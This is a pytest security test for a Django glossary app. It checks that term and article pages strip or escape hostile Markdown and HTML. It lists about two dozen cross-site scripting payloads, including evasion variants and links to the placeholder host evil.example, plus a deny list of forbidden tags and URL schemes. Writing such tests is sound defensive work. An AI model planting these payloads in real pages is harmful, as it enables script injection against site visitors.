"""Hostile Markdown never reaches a glossary page, through any field an editor fills in."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from glossary.factories import ArticleFactory, TermFactory

pytestmark = pytest.mark.django_db

HOSTILE_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x oNeRrOr=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">клик</a>',
    '<a href="JaVaScRiPt:alert(1)">клик</a>',
    '<a href="java\tscript:alert(1)">клик</a>',
    '<a href="&#106;avascript:alert(1)">клик</a>',
    '<a href=" javascript:alert(1)">клик</a>',
    "[клик](javascript:alert(1))",
    "[клик](JAVASCRIPT:alert(1))",
    "[клик](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div onmouseover="alert(1)">наведи</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!--<img src=x onerror=alert(1)>-->",
    '[CRM](javascript:alert(1) "CRM")',
]
# A <form> of the page itself is fine; a hostile one is caught by its action URL below.
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "meta", "style", "svg", "math"}
FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "data:")


class ElementCollector(HTMLParser):
    """Collects the real elements and attributes of a page (escaped text does not count)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def main_content(response):
    html = response.content.decode()
    return html[html.index('<main id="content"') : html.index("</main>")]


def assert_clean(html):
    collector = ElementCollector()
    collector.feed(html)
    collector.close()
    assert collector.elements, "nothing parsed"
    for tag, attrs in collector.elements:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            if name in ("href", "src", "action", "formaction"):
                # As a browser's URL parser does: trim C0 controls and spaces at the ends,
                # drop tabs and newlines anywhere ("java\tscript:" is still javascript:).
                normalised = (value or "").strip("".join(map(chr, range(33))))
                normalised = "".join(ch for ch in normalised if ch not in "\t\n\r").lower()
                assert not normalised.startswith(FORBIDDEN_SCHEMES), (tag, value)
                assert "evil.example" not in normalised, (tag, value)


PAGES_WITH_MARKDOWN = {
    # A term's definition and an article's body: both link the term "CRM" in the text.
    "term": lambda payload: TermFactory(definition=f"Определение CRM.\n\n{payload}\n\nКонец."),
    "article": lambda payload: ArticleFactory(body=f"Про CRM.\n\n{payload}\n\nКонец."),
}


@pytest.mark.parametrize("page", PAGES_WITH_MARKDOWN)
@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_it_keeps_hostile_markdown_off_term_and_article_pages(client, page, payload):
    TermFactory(name="CRM", slug="crm")
    item = PAGES_WITH_MARKDOWN[page](payload)
    response = client.get(item.get_absolute_url())
    assert response.status_code == 200
    content = main_content(response)
    assert 'href="/glossary/crm/"' in content
    assert_clean(content)


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS[:6])
def test_it_escapes_plain_text_fields_on_list_pages(client, payload):
    TermFactory(name=f"Термин {payload}", summary=payload, synonyms=payload)
    ArticleFactory(title=f"Статья {payload}", lead=payload)
    for url in (reverse("glossary:term-list"), reverse("materials:article-list"), "/"):
        response = client.get(url)
        assert response.status_code == 200
        assert_clean(main_content(response))
